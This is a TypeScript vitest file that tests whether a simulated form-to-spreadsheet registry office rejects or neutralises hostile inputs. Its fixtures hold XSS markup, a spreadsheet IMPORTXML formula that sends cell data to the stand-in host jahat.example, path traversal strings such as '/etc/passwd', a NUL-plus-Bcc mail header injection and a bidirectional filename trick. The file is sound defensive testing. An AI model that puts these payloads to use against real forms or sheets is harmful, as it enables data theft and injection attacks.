import { beforeAll, describe, expect, it } from 'vitest';
import type { StoryOffice } from '../../../src/cli/registry/story-office.ts';
import { OTHER_UNIT, OWNER, UNIT } from '../../../src/cli/registry/story-people.ts';
import { FORM_TEXTS, SUBMISSION_TEXTS } from '../../../src/core/messages/registry-form.ts';
import { ANSWERER, ask, attackedOffice, everything, JUDGE, stateOf, STRANGER } from './attacked-office.ts';

let office: StoryOffice;
beforeAll(() => {
  office = attackedOffice();
  office.world.addAccount(OWNER, 'workspace');
}, 300_000);

const MARKUP = '<script>alert(1)</script><img src=x onerror=alert(2)>';
const FORMULA = '=IMPORTXML("https://jahat.example/?"&A1;"//a")';
const SIGNS = ['=', '+', '-', '@', '\t=', '＝'] as const;

function submitted(person: string, answers: Readonly<Record<string, string>>): void {
  office.submit(person, answers);
  office.wait(0.2);
}

const question = (text: string) => ({ [FORM_TEXTS.question.title]: text });

/** What was answered to somebody last. */
function told(person: string): string {
  return office.world.mail.inbox(person).at(-1)?.plain ?? '';
}

/** Every cell of the registry that the spreadsheet would compute. */
function formulas(): readonly string[] {
  return office.world
    .spreadsheet(office.spreadsheet)
    .sheets.flatMap(({ cells }) => cells.flatMap(({ value }) => value?.formulaValue ?? []));
}

/** Everything that left the office as HTML: letters and pages. */
function html(): readonly string[] {
  const letters = office.world.mail.sent(OWNER).map((mail) => mail.html);
  const links = [ANSWERER, JUDGE, UNIT.contact].flatMap((person) =>
    office.world.mail
      .inbox(person)
      .flatMap(({ plain }) => plain.match(/https:\/\/script\.google\.com\S+/g) ?? []),
  );
  return [...letters, ...links.slice(-12).map((url) => office.world.web.open(null, url).body)];
}

describe('answers to the form', () => {
  it('of somebody who chose a unit of others open nothing', () => {
    const before = office.cases().length;
    submitted(UNIT.contact, office.answers(OTHER_UNIT.name, 'Atas nama unit lain', question('Boleh?')));
    expect(office.cases()).toHaveLength(before);
    expect(told(UNIT.contact)).toContain(SUBMISSION_TEXTS.notContact(OTHER_UNIT.name));
    submitted(STRANGER, office.answers(UNIT.name, 'Bukan kontak', question('Boleh?')));
    expect(office.cases()).toHaveLength(before);
    expect(told(STRANGER)).toContain(SUBMISSION_TEXTS.notContact(UNIT.name));
  });

  it('with a unit that the page never offered are not taken', () => {
    const before = everything(office);
    for (const unit of ['Dinas Rahasia', FORMULA, MARKUP])
      expect(() =>
        office.submit(UNIT.contact, office.answers(unit, 'Unit palsu', question('Boleh?'))),
      ).toThrow(FORM_TEXTS.unit.title);
    expect(everything(office)).toEqual(before);
  });

  it.each([
    ['of another unit', OTHER_UNIT.contact, OTHER_UNIT.name, (id: string) => id],
    ['that does not exist', UNIT.contact, UNIT.name, () => 'K-2026-9999'],
    ['that is a formula', UNIT.contact, UNIT.name, () => FORMULA],
    ['that is a path', UNIT.contact, UNIT.name, () => '../../K-2026-0001'],
  ])('with the number of a case %s change nothing', (_, person, unit, number) => {
    const id = ask(office, 'Berkas sendiri');
    const [before, count] = [stateOf(office, id), office.cases().length];
    const named = { ...question('Ubah!'), [FORM_TEXTS.caseId.title]: number(id) };
    submitted(person, office.answers(unit, 'Nomor berkas palsu', named));
    expect(stateOf(office, id)).toEqual(before);
    expect(office.cases()).toHaveLength(count);
    expect(told(person)).toContain('tidak ditemukan untuk unit Anda');
  });

  it('full of formulas never become one, in any tab', () => {
    const before = formulas();
    const opened = SIGNS.map((sign) => {
      const text = `${sign}${FORMULA.slice(1)}`;
      const id = ask(office, text);
      const more = { ...question(text), [FORM_TEXTS.name.title]: text, [FORM_TEXTS.note.title]: text };
      submitted(UNIT.contact, office.answers(UNIT.name, `${text} lagi`, more));
      return id;
    });
    expect(new Set(opened).size).toBe(SIGNS.length);
    expect(formulas()).toEqual(before);
    const titles = office.cases().map(({ title }) => title);
    expect(titles).toContain(FORMULA);
    expect(office.rows('Berkas').flat()).toContain(FORMULA);
  });

  it('full of markup stay words, in letters and on pages', () => {
    const more = { ...question(MARKUP), [FORM_TEXTS.name.title]: MARKUP, [FORM_TEXTS.note.title]: MARKUP };
    const before = office.cases().length;
    submitted(UNIT.contact, office.answers(UNIT.name, `Judul ${MARKUP}`, more));
    const id = office.cases()[before]?.id ?? '';
    const answer = office.decide(ANSWERER, id, '', `Jawaban ${MARKUP}`);
    expect(answer.ok, answer.message).toBe(true);
    office.wait(0.2);
    const choice = office.decide(JUDGE, id, 'Ya', MARKUP, [
      { row: MARKUP, column: FORMULA, text: `${FORMULA} ${MARKUP}` },
    ]);
    expect(typeof choice.ok).toBe('boolean');
    office.wait(0.2);
    const shown = html();
    expect(shown.some((body) => body.includes('alert(1)'))).toBe(true);
    for (const body of shown) {
      expect(body).not.toContain('<script>alert');
      expect(body).not.toMatch(/<img[^>]*onerror/i);
    }
    expect(formulas()).toEqual([]);
    const subjects = office.world.mail.sent(OWNER).map(({ subject }) => subject);
    expect(subjects.filter((subject) => /[\r\n]/.test(subject))).toEqual([]);
  });

  it('written into every field of the pages become neither formulas nor markup', () => {
    const id = ask(office, 'Isian halaman');
    const { world, url } = office;
    for (const text of [FORMULA, MARKUP]) {
      for (const name of ['p', 't', 'k', 'q', 'b']) {
        const page = world.web.open(null, `${url}?p=katalog&${name}=${encodeURIComponent(text)}`);
        expect(page.body).not.toContain(MARKUP);
      }
      world.web.open(null, url).run('bacaKatalog', text);
      world.web.open(null, url).run('mintaTautan', `${text}@jahat.example`);
      office.actOnOwnPage(UNIT.contact, [{ act: 'tarik', caseId: id, reason: text }]);
    }
    office.wait(0.2);
    expect(office.cases().find((one) => one.id === id)?.status).toBe('ditarik');
    expect(formulas()).toEqual([]);
    for (const body of html()) expect(body).not.toContain(MARKUP);
  });

  it.each([
    ['climbs', '../../Pengaturan'],
    ['climbs on Windows', '..\\..\\rahasia'],
    ['is absolute', '/etc/passwd'],
    ['holds NUL and a header', 'Judul\u0000 Bcc: penipu@jahat.example'],
    ['turns the reading direction', 'Judul \u202Egpj.exe'],
    ['is as long as is allowed', 'panjang '.repeat(37)],
    ['is a folder of the office', '03 Disahkan'],
  ])('with a title that %s stay in their own folder', (_, title) => {
    const outside = () =>
      office.world
        .files()
        .filter(({ parents, mimeType }) => parents.length === 0 || mimeType.endsWith('.folder'))
        .map(({ id, name, parents }) => ({ id, name, parents }));
    const [before, count] = [outside(), office.cases().length];
    const id = ask(office, title);
    expect(office.decide(ANSWERER, id, '', 'Boleh.').ok).toBe(true);
    office.wait(0.2);
    expect(office.cases()).toHaveLength(count + 1);
    // Folders of the case itself may be new; none is elsewhere.
    const fresh = outside().filter(({ id: known }) => before.every((one) => one.id !== known));
    const own = [office.folder(UNIT.name, 'pengajuan'), office.folder(UNIT.name, 'draf')];
    expect(fresh.filter(({ parents }) => !own.includes(parents[0] ?? ''))).toEqual([]);
    const mails = office.world.mail.sent(OWNER).slice(-3);
    for (const mail of mails) expect(`${mail.bcc}${mail.cc}${mail.to}`).not.toContain('jahat.example');
    for (const { files } of mails)
      for (const { name } of files) expect(name).not.toMatch(/[/\\\p{Cc}\p{Bidi_Control}]|^\.\./u);
  });

  it('too long in any field are refused with a sentence', () => {
    const before = office.cases().length;
    const long = (title: string, size: number) => ({ [title]: 'x'.repeat(size) });
    submitted(UNIT.contact, office.answers(UNIT.name, 'x'.repeat(400), question('Boleh?')));
    expect(told(UNIT.contact)).toContain(SUBMISSION_TEXTS.tooLong(FORM_TEXTS.subject.title, 300));
    submitted(
      UNIT.contact,
      office.answers(UNIT.name, 'Uraian panjang', long(FORM_TEXTS.question.title, 12_000)),
    );
    expect(told(UNIT.contact)).toContain(SUBMISSION_TEXTS.tooLong(FORM_TEXTS.question.title, 10_000));
    expect(office.cases()).toHaveLength(before);
  });

  it('with files whose names are paths keep the files, and no path', () => {
    const { forms } = office.world;
    const title = 'Lampiran';
    forms.addUploadItem(office.formId, title);
    const files = ['../../x.xlsx', '/etc/passwd', '=1+1.pdf', `${MARKUP}.pdf`].map((name) => ({
      name,
      mimeType: 'application/pdf',
      bytes: new TextEncoder().encode('%PDF-1.4'),
    }));
    const before = office.cases().length;
    forms.submit(UNIT.contact, office.formId, {
      ...office.answers(UNIT.name, 'Dengan lampiran', question('Boleh?')),
      [title]: files,
    });
    office.wait(0.2);
    expect(office.cases()).toHaveLength(before + 1);
    expect(formulas()).toEqual([]);
    for (const body of html()) expect(body).not.toContain(MARKUP);
  });
});
